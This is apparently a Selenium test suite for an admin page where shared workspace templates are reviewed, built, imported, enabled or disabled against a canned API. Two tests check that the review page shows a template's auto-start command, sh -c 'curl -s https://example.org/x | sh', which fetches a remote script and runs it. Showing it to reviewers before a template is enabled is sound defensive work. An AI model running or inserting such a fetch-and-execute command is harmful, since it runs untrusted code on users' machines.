"""The review of everybody's templates, before a canned API."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from pages import records as shared
from pages.canned import Canned
from pages.chromium import Driver, complaints, find, press, says, until
from pages.templates import records
from pages.visiting import each_look, line, overflow, visit
from selenium.webdriver.common.by import By


@each_look
def test_as_the_mock_up_shows(browser: Driver, canned: Canned, theme: str, size: tuple[int, int]) -> None:
    records.review(canned)
    visit(browser, canned, "/admin/templates", theme=theme, size=size)
    says(browser, "2 to review", ".lede")
    says(browser, "what changed since revision 4, the last enabled", "[data-diff]")
    says(browser, "ENV WANDB_API_KEY=changeme", ".diff")
    says(browser, "ghcr.io is not on the registry allowlist", "[data-findings]")
    says(browser, "The registry is not allowed here.", "[data-steps]")
    assert find(browser, "[data-findings] a[href='#line-4']").text == "line 4"
    assert find(browser, "#line-4").get_attribute("data-mark") == "warn"
    assert line(browser).endswith("svc template enable tpl-torch --revision 5")
    assert overflow(browser) == 0
    assert not complaints(browser)


def test_enable_just_this_revision(browser: Driver, canned: Canned) -> None:
    """What was read is what is enabled: another revision meanwhile is refused, and said."""
    records.review(canned)
    visit(browser, canned, "/admin/templates")
    press(browser, "[data-key=wait-tpl-rstudio]")
    says(browser, "revision 1: no revision of it was enabled before", "[data-diff]")
    button = find(browser, "[data-steps] [data-key=enable]")
    assert button.get_attribute("data-cmd") == "svc template enable tpl-rstudio --revision 1"
    canned.refuse(
        "POST /api/templates/tpl-rstudio/enable",
        409,
        "conflict",
        "rstudio is at revision 2, not 1: review it again",
    )
    press(browser, "[data-steps] [data-key=enable]")
    says(
        browser,
        "rstudio was not enabled. rstudio is at revision 2, not 1: review it again.",
        ".notice[role=alert]",
    )

    def enable() -> Any:
        canned.answers["GET /api/admin/templates"] = shared.page(records.waiting()[:1])
        return records.everybodys("rstudio")

    canned.answers["POST /api/templates/tpl-rstudio/enable"] = enable
    press(browser, "[data-steps] [data-key=enable]")
    says(browser, "1 to review", ".lede")
    assert [body for body, _ in canned.sent("POST /api/templates/tpl-rstudio/enable")] == [
        {"revision": 1}
    ] * 2
    says(browser, "what changed since revision 4", "[data-diff]")


def test_the_first_revision_shows_all_that_it_runs_and_reaches(browser: Driver, canned: Canned) -> None:
    """By the template's name; what starts by itself is seen before it is enabled."""
    records.review_of_a_new_one(canned)
    visit(browser, canned, "/admin/templates")
    says(browser, "rstudio, revision 1: no revision of it was enabled before", "[data-diff] h2")
    for text in (
        "docker.io/rocker/rstudio:4.4.2", "sh -c 'curl -s https://example.org/x | sh'",
        "starts by itself at every start", "EXTRA=from-the-app", "/run/token", "as Token: {token}",
        "/lab?t={token}", "WANDB_PROJECT runs", "API_KEY secret", "OMP_NUM_THREADS 8", "models", "/models",
        "read-only", "web 8888 https", "open to every user of the host", "/bin/main --serve", "uid 1000",
        "lab-net", "stopped after 60 idle minutes", "2 shared GPUs", "64 GiB", "at least CUDA 12.4",
    ):  # fmt: skip
        says(browser, text, "[data-all-fields]")


def test_a_later_revision_has_all_of_it_too(browser: Driver, canned: Canned) -> None:
    records.review(canned)
    canned.answers["GET /api/templates/tpl-torch"] = records.tagged(records.waiting()[0] | records.WHOLE)
    visit(browser, canned, "/admin/templates")
    says(browser, "torch, revision 5: what changed since revision 4, the last enabled", "[data-diff] h2")
    press(browser, "[data-key=all-fields] summary")
    says(browser, "sh -c 'curl -s https://example.org/x | sh'", "[data-all-fields]")


def test_import_for_everybody(browser: Driver, canned: Canned, tmp_path: Path) -> None:
    records.review(canned)
    canned.answers["GET /api/admin/templates"] = shared.page([])
    (tmp_path / "rstudio.tar").write_bytes(b"bundle")
    visit(browser, canned, "/admin/templates")
    says(browser, "Nothing waits for a review")

    def come() -> Any:
        canned.answers["GET /api/admin/templates"] = shared.page(records.waiting()[1:])
        return 201, records.waiting()[1], {}

    canned.answers["POST /api/templates/import"] = come
    press(browser, "[data-key=import]")
    find(browser, "dialog[open] input[type=file]").send_keys(str(tmp_path / "rstudio.tar"))
    says(browser, "sudo svc admin template import rstudio.tar --global", "dialog[open] .cmd code")
    press(browser, "dialog[open] [type=submit]")
    says(browser, "revision 1: no revision of it was enabled before", "[data-diff]")
    assert len(canned.sent("POST /api/templates/import")) == 1


def test_a_build_before_it_is_enabled(browser: Driver, canned: Canned) -> None:
    """Built by who reviews it; the log is on the page."""
    records.review(canned)
    record = records.waiting()[0] | {"findings": []}
    build = records.operation(record)
    canned.answers["GET /api/templates/tpl-torch"] = records.tagged(record)

    def begin() -> Any:
        canned.answers["GET /api/operations"] = shared.page([build])
        canned.answers[f"GET /api/operations/{build['id']}/log"] = records.log(records.LOG[:3], ended=False)
        return 202, {"operation": build}, {}

    canned.answers["POST /api/templates/tpl-torch/image/build"] = begin
    visit(browser, canned, "/admin/templates")
    press(browser, "[data-steps] [data-key=build]")
    says(browser, "STEP 2/6", "[data-log]")
    says(browser, "building, step 3 of 6", "[data-steps] .now")


def test_delete_one_that_waits(browser: Driver, canned: Canned) -> None:
    records.review(canned)
    canned.answers["DELETE /api/templates/tpl-torch"] = (204, None, {})
    visit(browser, canned, "/admin/templates")
    press(browser, "[data-steps] [data-key=delete]")
    says(browser, "It goes for everybody", "dialog[open]")
    press(browser, "dialog[open] button[value=confirm]")
    until(browser, lambda: canned.sent("DELETE /api/templates/tpl-torch"), "the request")


def test_everybodys_templates(browser: Driver, canned: Canned) -> None:
    records.review(canned)
    canned.answers["POST /api/templates/tpl-debian-tools/disable"] = records.everybodys("debian-tools")
    visit(browser, canned, "/admin/templates")
    says(browser, "debian-tools", "[data-global]")
    press(browser, "[data-global] [data-key=disable-tpl-debian-tools]")
    says(browser, "Workspaces that were made from it stay", "dialog[open]")
    press(browser, "dialog[open] button[value=confirm]")
    until(browser, lambda: canned.sent("POST /api/templates/tpl-debian-tools/disable"), "the request")


def test_it_is_for_administrators(browser: Driver, canned: Canned) -> None:
    """Others are told so, and nothing is asked for them."""
    visit(browser, canned, "/admin/templates")
    says(browser, "For administrators")
    says(browser, "sudo svc admin edit-user ada --superuser", ".cmd")
    assert not canned.sent("GET /api/admin/templates")
    assert not browser.find_elements(By.CSS_SELECTOR, "[data-key=import]")
